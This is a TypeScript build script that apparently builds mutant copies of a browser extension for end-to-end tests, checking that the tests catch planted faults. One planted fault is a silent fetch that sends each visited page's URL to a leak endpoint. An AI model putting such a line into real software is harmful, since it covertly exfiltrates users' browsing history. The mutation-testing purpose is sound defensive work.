/**
 * Builds the package with two faults put into its source, for the test that the other tests can fail: matching finds nothing,
 * and every look-up tells a stranger which page it was for. Run by the build of the end-to-end tests.
 */
import { build, mergeConfig, type Plugin } from 'vite'
import { browsers } from '../../../scripts/extension.ts'
import { describeIndex } from '../../../scripts/packaged-index.ts'
import { extensionConfig } from '../../../vite/extension.ts'
import { FOLDER, LEAK } from './packages.ts'

/** A fault: in the file, what is there becomes what is not wanted. */
type Fault = { readonly file: string; readonly from: string; readonly to: string }

const FAULTS: readonly Fault[] = [
  {
    file: 'src/core/index/story-reader.ts',
    from: '  addresses.flatMap(',
    to: '  addresses.slice(addresses.length).flatMap(',
  },
  {
    file: 'src/background/count.ts',
    from: 'await setBadge(tabId, outlets)',
    to: `await setBadge(tabId, outlets)\n    await fetch('${LEAK}?page=' + encodeURIComponent(report.url), { mode: 'no-cors' }).catch(() => {})`,
  },
]

/** Fails the build when a fault no longer finds its place. */
function faulty(): Plugin {
  const left = new Set(FAULTS)
  return {
    name: 'faulty',
    enforce: 'pre',
    transform(code, id) {
      const fault = FAULTS.find(({ file }) => id.split('?')[0]?.replaceAll('\\', '/').endsWith(file))
      if (fault === undefined) return null
      if (!code.includes(fault.from)) this.error(`${fault.file} has no "${fault.from}"`)
      left.delete(fault)
      return code.replace(fault.from, fault.to)
    },
    buildEnd() {
      if (left.size > 0) this.error(`not built: ${[...left].map(({ file }) => file).join(', ')}`)
    },
  }
}

process.env.NODE_ENV = 'production'
const { index, sample } = await describeIndex('dist/index/sample.index')
for (const browser of browsers) {
  const config = extensionConfig({ browser, index, sample, named: null })
  await build(mergeConfig(config, { plugins: [faulty()], build: { outDir: `${FOLDER}/mutant-${browser}` } }))
}
